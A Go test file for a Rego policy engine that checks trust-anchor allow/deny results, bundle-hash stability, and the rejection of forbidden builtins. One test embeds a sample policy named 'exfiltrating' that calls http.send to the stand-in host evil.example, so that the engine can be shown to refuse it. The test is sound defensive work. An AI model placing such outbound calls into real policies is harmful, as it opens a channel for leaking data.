package policyrego

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"fedhub/internal/domain"
)

const registrationPolicy = `package fedhub.registration

result = {"allow": true, "deny": []} {
	input.trust_anchor == "https://ta.example"
}

result = {"allow": false, "deny": [{"code": "untrusted_anchor"}]} {
	input.trust_anchor != "https://ta.example"
}
`

func writeBundle(t *testing.T, policy string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "registration.rego"), []byte(policy), 0o600); err != nil {
		t.Fatalf("write policy: %v", err)
	}
	return dir
}

func TestEngineAllowAndDeny(t *testing.T) {
	engine, err := NewEngineFromBundlePath(context.Background(), writeBundle(t, registrationPolicy))
	if err != nil {
		t.Fatalf("load engine: %v", err)
	}
	if engine.BundleHash() == "" {
		t.Fatalf("no bundle hash")
	}

	allowed, err := engine.Evaluate(context.Background(), domain.RegistrationPolicyInput{
		EntityID:    "https://rp.example",
		TrustAnchor: "https://ta.example",
	})
	if err != nil {
		t.Fatalf("evaluate: %v", err)
	}
	if !allowed.Allow {
		t.Fatalf("result = %+v", allowed)
	}

	denied, err := engine.Evaluate(context.Background(), domain.RegistrationPolicyInput{
		EntityID:    "https://rp.example",
		TrustAnchor: "https://other.example",
	})
	if err != nil {
		t.Fatalf("evaluate: %v", err)
	}
	if denied.Allow || len(denied.Deny) != 1 || denied.Deny[0].Code != "untrusted_anchor" {
		t.Fatalf("result = %+v", denied)
	}
}

func TestEngineRejectsForbiddenBuiltins(t *testing.T) {
	const exfiltrating = `package fedhub.registration

result = {"allow": true, "deny": []} {
	http.send({"method": "get", "url": "https://evil.example"})
}
`
	_, err := NewEngineFromBundlePath(context.Background(), writeBundle(t, exfiltrating))
	if err == nil {
		t.Fatalf("expected load failure")
	}
	if !strings.Contains(err.Error(), "http.send") {
		t.Fatalf("err = %v", err)
	}
}

func TestBundleHashIsStable(t *testing.T) {
	dir := writeBundle(t, registrationPolicy)
	first, err := ComputeBundleHashFromPath(dir)
	if err != nil {
		t.Fatalf("hash: %v", err)
	}
	second, err := ComputeBundleHashFromPath(dir)
	if err != nil {
		t.Fatalf("hash: %v", err)
	}
	if first != second {
		t.Fatalf("hash unstable: %s vs %s", first, second)
	}

	other, err := ComputeBundleHashFromPath(writeBundle(t, registrationPolicy+"\n# changed\n"))
	if err != nil {
		t.Fatalf("hash: %v", err)
	}
	if other == first {
		t.Fatalf("hash did not change with content")
	}
}
